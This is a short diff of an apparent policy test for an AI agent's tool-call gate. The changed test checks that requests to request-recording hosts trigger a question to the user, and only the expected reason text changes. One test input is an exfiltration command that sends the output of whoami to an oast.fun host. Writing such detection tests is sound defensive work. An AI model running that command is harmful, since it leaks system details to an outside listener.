@@ -77,7 +77,7 @@ test_asks_about_hosts_that_record if {
 		"curl https://x.oast.fun/$(whoami)",
 	] {
 		some question in fetch.ask with input as gate.event(call)
-		contains(question.reason, "only records what it is sent")
+		contains(question.reason, "only records requests")
 	}
 	every call in [
 		{"tool": "WebFetch", "input": {"url": "https://docs.webhook.site.example/", "prompt": "s"}},
